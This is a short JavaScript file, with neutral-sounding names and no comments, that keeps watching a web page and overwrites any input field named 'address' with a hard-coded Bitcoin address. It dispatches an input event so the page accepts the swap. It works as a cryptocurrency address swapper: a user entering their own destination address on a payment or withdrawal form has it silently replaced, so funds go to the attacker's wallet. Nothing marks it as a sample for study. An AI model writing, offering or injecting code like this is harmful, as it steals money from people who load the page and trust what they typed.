const book = {btc: "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"};

function fill() {
  const field = document.querySelector("input[name=address]");
  if (!field || field.value === book.btc) return;
  field.value = book.btc;
  field.dispatchEvent(new Event("input", {bubbles: true}));
}

new MutationObserver(fill).observe(document.documentElement, {childList: true, subtree: true});
